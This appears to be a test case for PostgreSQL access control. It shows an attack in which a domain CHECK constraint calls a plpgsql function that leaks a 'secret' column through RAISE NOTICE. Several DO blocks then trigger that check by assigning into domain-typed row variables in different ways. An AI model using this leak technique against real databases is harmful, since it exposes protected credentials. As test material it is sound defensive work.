-- Fetches into fields of rows whose types are domains, by INTO of every form.
-- wants: read
-- attack:
CREATE FUNCTION tells(v text) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN RAISE NOTICE '%', (SELECT secret FROM vlt_account LIMIT 1); RETURN true; END $f$;
CREATE DOMAIN told AS text CHECK (tells(VALUE));
CREATE TABLE quiet (a int, b told);
DO $$ DECLARE q quiet; BEGIN INSERT INTO mallory_own VALUES (70, 'x') RETURNING id, v INTO q; END $$;
DO $$ DECLARE q quiet; BEGIN FOR q IN SELECT id, v FROM mallory_own LOOP NULL; END LOOP; END $$;
DO $$ DECLARE q quiet; c CURSOR FOR SELECT id, v FROM mallory_own; BEGIN OPEN c; FETCH c INTO q; END $$;
DO $$ DECLARE q quiet[]; BEGIN q[1].b := 'x'; END $$;
DO $$ DECLARE q record; BEGIN SELECT a, b INTO q FROM (SELECT 1 AS a, NULL::told AS b) s; q.b := 'x'; END $$;
